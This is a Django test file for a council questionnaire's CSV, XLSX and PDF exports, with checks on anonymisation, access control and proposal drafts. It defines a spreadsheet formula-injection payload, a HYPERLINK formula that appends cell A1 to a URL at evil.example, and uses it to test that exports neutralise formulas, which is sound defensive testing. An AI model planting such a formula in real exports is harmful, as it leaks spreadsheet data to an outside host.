"""Exports of a questionnaire (issue 16): all answers and the summary as CSV and XLSX, read
back with the csv module and openpyxl; the PDF read with pypdf; proposals made from results;
the questionnaire as a dossier link."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from common.audit import AuditEntry
from common.tests.pdfua import assert_tagged_pdf
from councils.models import Membership
from councils.selectors import viewer_for
from councils.tests.factories import CouncilFactory, MembershipFactory
from proposals.models import Proposal
from proposals.tests.factories import PlanFactory

from ..exports import answers_table, proposal_drafts, shown_groups
from ..models import Answer, QuestionKind, Response, Survey
from .factories import OptionFactory, QuestionFactory, SurveyFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'


def make_survey(council, *, anonymous=True, title="Behoeften 2026"):
    """A questionnaire of ``council`` with one question of each kind."""
    survey = SurveyFactory(
        council=council,
        title=title,
        anonymous=anonymous,
        audience=Survey.Audience.COUNCILS,
    )
    survey.audience_councils.add(council)
    q = {}
    q["single"] = QuestionFactory(
        survey=survey, kind=QuestionKind.SINGLE, text="Is de informatie duidelijk?", has_other=True
    )
    q["yes"] = OptionFactory(question=q["single"], label="Ja")
    q["no"] = OptionFactory(question=q["single"], label="Nee")
    q["multiple"] = QuestionFactory(
        survey=survey, kind=QuestionKind.MULTIPLE, text="Welke onderwerpen?", has_other=True
    )
    q["letters"] = OptionFactory(question=q["multiple"], label="Brieven")
    q["phone"] = OptionFactory(question=q["multiple"], label="Bereikbaarheid")
    q["site"] = OptionFactory(question=q["multiple"], label="Website")
    q["scale"] = QuestionFactory(survey=survey, kind=QuestionKind.SCALE, text="Hoe tevreden?")
    q["number"] = QuestionFactory(survey=survey, kind=QuestionKind.NUMBER, text="Hoeveel uur?")
    q["text"] = QuestionFactory(survey=survey, kind=QuestionKind.LONG_TEXT, text="Wat mist u?")
    q["rank"] = QuestionFactory(survey=survey, kind=QuestionKind.RANK, text="Wat eerst?")
    q["a"] = OptionFactory(question=q["rank"], label="Scholing")
    q["b"] = OptionFactory(question=q["rank"], label="Contact")
    return survey, q


def answer(survey, q, *, council, role="member", user=None, yes=True, text="", other="", n=3):
    response = Response.objects.create(survey=survey, council=council, role=role, user=user)
    rows = [
        Answer(response=response, question=q["single"], option=q["yes" if yes else "no"]),
        Answer(response=response, question=q["multiple"], option=q["site"]),
        Answer(response=response, question=q["multiple"], option=q["letters"]),
        Answer(response=response, question=q["scale"], number=4),
        Answer(response=response, question=q["number"], number=n),
        Answer(response=response, question=q["rank"], option=q["b"], rank=1),
        Answer(response=response, question=q["rank"], option=q["a"], rank=2),
    ]
    if other:
        rows.append(Answer(response=response, question=q["multiple"], is_other=True, text=other))
    if text:
        rows.append(Answer(response=response, question=q["text"], text=text))
    Answer.objects.bulk_create(rows)
    return response


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:], newline=""), delimiter=";"))


def test_shown_groups_never_leave_a_small_rest():
    assert shown_groups({"a": 6, "b": 5, "c": 9}) == {"a", "b", "c"}
    # c alone would be a group of 2 under "other": the smallest named group joins it.
    assert shown_groups({"a": 6, "b": 5, "c": 2}) == {"a"}
    assert shown_groups({"a": 6, "c": 2}) == set()
    assert shown_groups({"a": 6, "b": 5, "c": 2, "d": 3}) == {"a", "b"}
    assert shown_groups({None: 7, "a": 5}) == {"a"}


def test_anonymous_answers_have_no_person_or_time_and_only_large_groups_by_name(roles):
    noord, zuid, small = roles.council, roles.other_council, CouncilFactory(name="Klein")
    survey, q = make_survey(noord)
    for i in range(5):
        answer(survey, q, council=noord, yes=i % 2 == 0)
    answer(survey, q, council=noord, role="chair", text=EVIL + " bel 06-12345678", other="+1")
    for _i in range(5):
        answer(survey, q, council=zuid)
    answer(survey, q, council=small)  # alone, and "Overige" would be alone: zuid joins it

    header, rows = answers_table(survey)
    rows = list(rows)
    assert header[:3] == ["Nr.", "Raad", "Rol"]
    assert "Naam" not in header and "Ingevuld op" not in header
    assert header[3:] == [
        "1. Is de informatie duidelijk?",
        "1. Is de informatie duidelijk? – anders, namelijk",
        "2. Welke onderwerpen?",
        "2. Welke onderwerpen? – anders, namelijk",
        "3. Hoe tevreden?",
        "4. Hoeveel uur?",
        "5. Wat mist u?",
        "6. Wat eerst? – Scholing",
        "6. Wat eerst? – Contact",
    ]
    assert len(rows) == 12
    councils = {row[1] for row in rows}
    assert councils == {noord.name, "Overige raden"}
    assert sum(row[1] == noord.name for row in rows) == 6
    # The chair of noord is one of six: never named apart.
    assert {row[2] for row in rows if row[1] == noord.name} == {"Overige rollen"}
    [chair] = [row for row in rows if row[9]]
    assert chair[9].startswith(EVIL) and "[TELEFOON]" in chair[9] and "0612" not in chair[9]
    assert chair[3:] == ["Ja", "", "Brieven | Website | Anders", "+1", 4, 3, chair[9], 2, 1]
    # Nothing of a person anywhere: no e-mail addresses, names or the response keys.
    flat = " ".join(str(cell) for row in rows for cell in row)
    for response in Response.objects.filter(survey=survey):
        assert str(response.pk) not in flat


def test_named_answers_carry_the_name_and_time(roles):
    survey, q = make_survey(roles.council, anonymous=False)
    member = roles["member"]
    member.first_name, member.last_name = "Anna", "de Vries"
    member.save()
    answer(survey, q, council=roles.council, user=member)
    header, rows = answers_table(survey)
    [row] = list(rows)
    assert header[:5] == ["Nr.", "Naam", "Raad", "Rol", "Ingevuld op"]
    assert row[1:4] == ["Anna de Vries", roles.council.name, "Raadslid"]


def _client_for(client, user):
    client.force_login(user)
    return client


def test_answers_csv_and_xlsx_read_back_and_neutralise_formulas(client, roles):
    survey, q = make_survey(roles.council)
    for i in range(6):
        answer(survey, q, council=roles.council, text=EVIL if i == 0 else "", other="@SUM(A1)")
    _client_for(client, roles["secretary"])

    response = client.get(f"/vragenlijsten/{survey.pk}/export/antwoorden.csv")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"].endswith(f'vragenlijst-{survey.pk}-antwoorden.csv"')
    rows = read_csv(response)
    assert rows[0][1] == "Raad" and len(rows) == 7
    texts = [row[rows[0].index("5. Wat mist u?")] for row in rows[1:]]
    assert "'" + EVIL in texts
    assert {row[rows[0].index("2. Welke onderwerpen? – anders, namelijk")] for row in rows[1:]} == {
        "'@SUM(A1)"
    }

    response = client.get(f"/vragenlijsten/{survey.pk}/export/antwoorden.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Antwoorden"]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    column = values[0].index("5. Wat mist u?")
    assert "'" + EVIL in [row[column] for row in values[1:]]
    assert values[1][values[0].index("4. Hoeveel uur?")] == 3  # a number stays a number


def test_summary_has_the_figures_and_the_response_rate(client, roles):
    survey, q = make_survey(roles.council, title="Cliëntenraad: behoeften")
    for i in range(4):
        answer(survey, q, council=roles.council, yes=i < 3, n=i)
    _client_for(client, roles["secretary"])
    rows = read_csv(client.get(f"/vragenlijsten/{survey.pk}/export/samenvatting.csv"))
    assert rows[0] == ["Vraag", "Antwoord", "Aantal", "Van", "Procent", "Gemiddelde plaats"]
    single = [row for row in rows if row[0] == "1. Is de informatie duidelijk?"]
    assert [row[1:5] for row in single] == [
        ["Ja", "3", "4", "75"],
        ["Nee", "1", "4", "25"],
        ["Anders", "0", "4", "0"],
    ]
    assert ["4. Hoeveel uur?", "Gemiddelde", "1,5", "4", "", ""] in rows
    assert ["6. Wat eerst?", "Contact", "4", "4", "100", "1,0"] in rows
    responses = [row for row in rows if row[0] == "Respons per raad"]
    # Only active memberships are asked (not noord's former member).
    asked = Membership.objects.active().filter(council=roles.council).count()
    assert responses[0][1:5] == ["Alle raden", "0", str(asked), "0"]
    assert responses[1][1] == roles.council.name

    response = client.get(f"/vragenlijsten/{survey.pk}/export/samenvatting.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Uitslag", "Respons"]
    assert workbook["Uitslag"]["C2"].value == 3
    assert workbook["Respons"]["A2"].value == "Alle raden"


def test_pdf_opens_and_names_every_question(client, roles):
    survey, q = make_survey(roles.council)
    for _i in range(5):
        answer(survey, q, council=roles.council)
    _client_for(client, roles["secretary"])
    response = client.get(f"/vragenlijsten/{survey.pk}/export/uitslag.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Cache-Control"] == "private, no-store"
    tagged = assert_tagged_pdf(response.content, title="Uitslag: Behoeften 2026")
    text = " ".join(page.extract_text() for page in tagged.reader.pages)
    text = " ".join(text.split())
    for question in survey.questions.all():
        assert question.text in text
    assert "Behoeften 2026" in text
    assert tagged.reader.trailer["/Root"]["/Lang"] == "nl"
    # A chart per question with figures (not the open text), each with its alternative text.
    assert len(tagged.figures) == 5
    assert tagged.figures[0] == "Grafiek bij vraag 1: Ja 5, Nee 0, Anders 0"


def test_only_the_asker_exports(client, roles):
    survey, _q = make_survey(roles.council)
    for name in ("member", "member_other", "liaison", "editor"):
        _client_for(client, roles[name])
        for url in (
            f"/vragenlijsten/{survey.pk}/export/antwoorden.csv",
            f"/vragenlijsten/{survey.pk}/export/samenvatting.xlsx",
            f"/vragenlijsten/{survey.pk}/export/uitslag.pdf",
            f"/vragenlijsten/{survey.pk}/naar-plan/",
        ):
            assert client.get(url).status_code == 403, (name, url)
    _client_for(client, roles["secretary"])
    assert client.get(f"/vragenlijsten/{survey.pk}/export/antwoorden.ods").status_code == 404


def test_proposal_drafts_quote_the_question_and_its_figures(roles):
    survey, q = make_survey(roles.council, title="X")
    for i in range(48):
        answer(survey, q, council=roles.council, yes=i < 30, n=i % 4)
    drafts = proposal_drafts(survey, [q["single"].pk, q["number"].pk, q["rank"].pk])
    assert [d.title for d in drafts] == [
        "Is de informatie duidelijk?",
        "Hoeveel uur?",
        "Wat eerst?",
    ]
    # Percentages as on the results page (results.py rounds half to even: 62.5 -> 62).
    assert "Uit de vragenlijst 'X' (48 antwoorden): Ja 30 (62%), Nee 18 (38%), Anders 0 (0%)." in (
        drafts[0].text
    )
    assert "gemiddeld 1,5, mediaan 1,5" in drafts[1].text
    assert "gemiddelde plaats: Contact 1; Scholing 2" in drafts[2].text
    assert f"/vragenlijsten/{survey.pk}/" in drafts[0].text


def _to_plan(client, survey, data):
    return client.post(f"/vragenlijsten/{survey.pk}/naar-plan/", data)


def test_to_plan_confirms_then_makes_concept_proposals_with_an_audit_entry(client, roles):
    survey, q = make_survey(roles.council, title="Behoeften")
    for i in range(6):
        answer(survey, q, council=roles.council, yes=i < 4)
    plan = PlanFactory(council=roles.council, title="Plan Noord")
    other_plan = PlanFactory(council=roles.other_council, title="Plan Limburg")
    _client_for(client, roles["secretary"])

    page = client.get(f"/vragenlijsten/{survey.pk}/naar-plan/")
    assert page.status_code == 200
    assert "Plan Noord" in page.content.decode() and "Plan Limburg" not in page.content.decode()

    # A plan one may not edit is not a choice; nothing chosen keeps the choices with errors.
    refused = _to_plan(client, survey, {"plan": other_plan.pk, "questions": [q["single"].pk]})
    assert refused.status_code == 400
    missing = _to_plan(client, survey, {"plan": plan.pk})
    assert missing.status_code == 400
    html = missing.content.decode()
    assert "Kies ten minste één vraag." in html and 'id="foutmeldingen"' in html
    assert f'<option value="{plan.pk}" selected>' in html

    data = {"plan": plan.pk, "questions": [q["single"].pk, q["scale"].pk]}
    confirm = _to_plan(client, survey, data)
    assert confirm.status_code == 200
    body = confirm.content.decode()
    assert "Is de informatie duidelijk?" in body and "Hoe tevreden?" in body
    assert "Uit de vragenlijst &#x27;Behoeften&#x27; (6 antwoorden): Ja 4 (67%)" in body
    assert not Proposal.objects.filter(plan=plan).exists()

    back = _to_plan(client, survey, {**data, "terug": "1"})
    assert back.status_code == 200 and 'id="foutmeldingen"' not in back.content.decode()
    assert f'value="{q["scale"].pk}" id="id_questions_2" checked' in back.content.decode()

    done = _to_plan(client, survey, {**data, "maken": "1"})
    assert done.status_code == 302 and done["Location"] == reverse("proposals:plan", args=[plan.pk])
    made = list(Proposal.objects.filter(plan=plan).order_by("number"))
    assert [p.title for p in made] == ["Is de informatie duidelijk?", "Hoe tevreden?"]
    assert all(p.status == "concept" for p in made)
    assert "Ja 4 (67%), Nee 2 (33%)" in made[0].text
    # The proposal's page links back to the questionnaire.
    page = client.get(made[0].get_absolute_url()).content.decode()
    assert f'<a href="http://127.0.0.1:8000/vragenlijsten/{survey.pk}/"' in page.replace(
        settings.SITE_URL, "http://127.0.0.1:8000"
    )
    entry = AuditEntry.objects.get(action="survey.to_plan")
    assert entry.details == {"plan": plan.pk, "proposals": [p.pk for p in made]}


def test_to_plan_without_an_editable_plan_points_to_making_one(client, roles):
    survey, _q = make_survey(roles.council)
    _client_for(client, roles["secretary"])
    response = client.get(f"/vragenlijsten/{survey.pk}/naar-plan/")
    assert response.status_code == 200
    assert reverse("proposals:plan_create") in response.content.decode()


def test_a_dossier_links_the_questionnaire_for_asker_audience_and_administrator(roles):
    from dossiers import links

    survey, _q = make_survey(roles.council, title="Behoeften")
    kind = links.link_kind("survey")
    assert kind.label == "Vragenlijst"
    assert kind.find(f"https://raadsplein.example/vragenlijsten/{survey.pk}/resultaten/") == survey
    assert kind.find(str(survey.pk)) == survey and kind.find("onzin") is None
    assert kind.describe(survey) == "Behoeften"
    may = {"secretary", "member", "administrator"}
    for name in ("secretary", "member", "member_other", "editor", "liaison", "administrator"):
        viewer = viewer_for(roles[name])
        assert kind.can_view(viewer, survey) == (name in may), name
        [prepared] = kind.objects(viewer, [str(survey.pk)]).values()
        assert kind.can_view(viewer, prepared) == (name in may), name
    # A draft is its asker's only.
    survey.published_at = None
    assert not kind.can_view(viewer_for(roles["member"]), survey)
    assert kind.can_view(viewer_for(roles["secretary"]), survey)


def test_the_dossier_links_of_many_questionnaires_take_a_fixed_number_of_queries(
    roles, django_assert_max_num_queries
):
    from dossiers import links

    kind = links.link_kind("survey")
    ids = [str(make_survey(roles.council, title=f"V{i}")[0].pk) for i in range(6)]
    viewer = viewer_for(roles["member"])
    with django_assert_max_num_queries(4):
        prepared = kind.objects(viewer, ids)
        assert all(kind.can_view(viewer, s) for s in prepared.values())


def test_a_member_elsewhere_in_the_audience_is_in_it_by_the_rule_of_the_audience(roles):
    MembershipFactory(council=roles.other_council, user=roles["member"])
    survey, _q = make_survey(roles.other_council)
    from dossiers import links

    assert links.link_kind("survey").can_view(viewer_for(roles["member"]), survey)
